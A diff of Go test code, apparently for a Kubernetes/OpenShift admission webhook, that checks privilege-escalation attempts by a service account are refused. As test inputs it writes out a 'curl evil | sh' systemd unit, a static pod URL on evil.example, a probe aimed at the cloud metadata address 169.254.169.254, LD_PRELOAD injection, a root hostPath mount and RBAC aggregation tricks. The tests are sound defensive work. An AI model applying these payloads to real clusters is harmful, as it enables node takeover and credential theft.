@@ -162,8 +162,9 @@ func admissionSpecs(ctx context.Context) {
 		refused(sa.Create(ctx, kc("worker", map[string]any{"maxPods": int64(500)}), client.DryRunAll), "the master's KubeletConfig pointed at the workers")
 		// (The master's, as rendered, is admitted only where masters are
 		// schedulable: the worker's is the catalog's shape here.)
-		worker := kc("worker", map[string]any{"maxPods": int64(500), "authorization": map[string]any{"mode": "Webhook"}})
+		worker := kc("worker", map[string]any{"maxPods": int64(500), "nodeStatusMaxImages": int64(-1)})
 		worker.SetName("kubevirt-kubelet-worker")
+		Expect(unstructured.SetNestedField(worker.Object, true, "spec", "autoSizingReserved")).To(Succeed())
 		err := sa.Create(ctx, worker, client.DryRunAll)
 		Expect(err == nil || apierrors.IsAlreadyExists(err)).To(BeTrue(), "the catalog's KubeletConfig as rendered: %v", err)
 
@@ -216,6 +217,40 @@ func admissionSpecs(ctx context.Context) {
 		units[0].(map[string]any)["contents"] = "[Service]\nExecStart=/bin/sh -c 'curl evil | sh'\n"
 		Expect(unstructured.SetNestedSlice(unitChanged.Object, units, "spec", "config", "systemd", "units")).To(Succeed())
 		refused(sa.Patch(ctx, unitChanged, client.MergeFrom(swap), client.DryRunAll), "a catalog unit with other contents")
+
+		// Ignition and the kubelet read keys case-insensitively: another
+		// spelling is refused, as is an Ignition section of the token's
+		// (a merge of another config), a static pod URL, a TLS profile.
+		capitalised := newObj(mcGVK, "", "90-worker-kubevirt-multipath-reservation")
+		capitalised.SetLabels(map[string]string{"machineconfiguration.openshift.io/role": "worker"})
+		Expect(unstructured.SetNestedField(capitalised.Object, map[string]any{
+			"ignition": map[string]any{"version": "3.4.0"},
+			"Systemd":  map[string]any{"units": []any{map[string]any{"name": "x.service", "enabled": true, "contents": "[Service]\nExecStart=/bin/true\n"}}},
+		}, "spec", "config")).To(Succeed())
+		refused(sa.Create(ctx, capitalised.DeepCopy(), client.DryRunAll), "Ignition's systemd spelled Systemd")
+		Expect(unstructured.SetNestedField(capitalised.Object, map[string]any{
+			"ignition": map[string]any{"version": "3.4.0"},
+			"storage":  map[string]any{"Files": []any{map[string]any{"path": "/etc/x", "contents": map[string]any{"source": "data:,x"}}}},
+		}, "spec", "config")).To(Succeed())
+		refused(sa.Create(ctx, capitalised.DeepCopy(), client.DryRunAll), "Ignition's files spelled Files")
+		Expect(unstructured.SetNestedField(capitalised.Object, map[string]any{
+			"ignition": map[string]any{"version": "3.4.0", "config": map[string]any{"merge": []any{map[string]any{"source": "data:;base64,e30="}}}},
+		}, "spec", "config")).To(Succeed())
+		refused(sa.Create(ctx, capitalised.DeepCopy(), client.DryRunAll), "an Ignition config merged in")
+		for what, kubelet := range map[string]map[string]any{
+			"a static pod URL":                {"maxPods": int64(500), "staticPodURL": "https://evil.example/pod.yaml"},
+			"anonymous access spelled else":   {"maxPods": int64(500), "authentication": map[string]any{"Anonymous": map[string]any{"Enabled": true}}},
+			"the read-only port spelled else": {"maxPods": int64(500), "ReadOnlyPort": int64(10255)},
+			"another maxPods":                 {"maxPods": int64(100000)},
+		} {
+			k := kc("worker", kubelet)
+			k.SetName("kubevirt-kubelet-worker")
+			refused(sa.Create(ctx, k, client.DryRunAll), what)
+		}
+		tlsKC := kc("worker", map[string]any{"maxPods": int64(500)})
+		tlsKC.SetName("kubevirt-kubelet-worker")
+		Expect(unstructured.SetNestedField(tlsKC.Object, map[string]any{"type": "Old", "old": map[string]any{}}, "spec", "tlsSecurityProfile")).To(Succeed())
+		refused(sa.Create(ctx, tlsKC, client.DryRunAll), "a weaker kubelet TLS profile")
 
 		// The HCO's annotations are its editors' input: the token can
 		// neither pause the autopilot nor turn a feature on.
@@ -389,6 +424,7 @@ func contentProbes(ctx context.Context) {
 	// (An aggregation rule the API server itself keeps to cluster-admins.)
 	agg := map[string]any{"aggregationRule": map[string]any{"clusterRoleSelectors": []any{map[string]any{"matchLabels": map[string]any{"x": "y"}}}}}
 	Expect(apierrors.IsForbidden(sa.Patch(ctx, role, client.RawPatch(types.MergePatchType, []byte(mustJSON(agg))), client.DryRunAll))).To(BeTrue())
+	refused(role, map[string]any{"metadata": map[string]any{"labels": map[string]any{"rbac.authorization.k8s.io/aggregate-to-admin": "true"}}}, "a label aggregating the role into admin")
 	binding := &rbacv1.ClusterRoleBinding{ObjectMeta: metav1.ObjectMeta{Name: name}}
 	refused(binding, map[string]any{"subjects": []any{map[string]any{"kind": "ServiceAccount", "name": "default", "namespace": "default"}}}, "another subject")
 	sccObj := &unstructured.Unstructured{}
@@ -422,6 +458,10 @@ func contentProbes(ctx context.Context) {
 		c["env"] = append(c["env"].([]any), map[string]any{"name": "LD_PRELOAD", "value": "/sys/x.so"})
 	}), "another environment")
 	refused(ds, pod("hostNetwork", true), "the host's network")
+	refused(ds, pod("priorityClassName", "system-node-critical"), "a priority that evicts others")
+	refused(ds, container(func(c map[string]any) {
+		c["readinessProbe"] = map[string]any{"httpGet": map[string]any{"host": "169.254.169.254", "path": "/", "port": int64(80)}}
+	}), "a probe reaching another host")
 	refused(ds, pod("serviceAccountName", "default"), "another identity")
 	volumes := []any{map[string]any{"name": "root", "hostPath": map[string]any{"path": "/"}}}
 	for _, v := range ds.Spec.Template.Spec.Volumes {
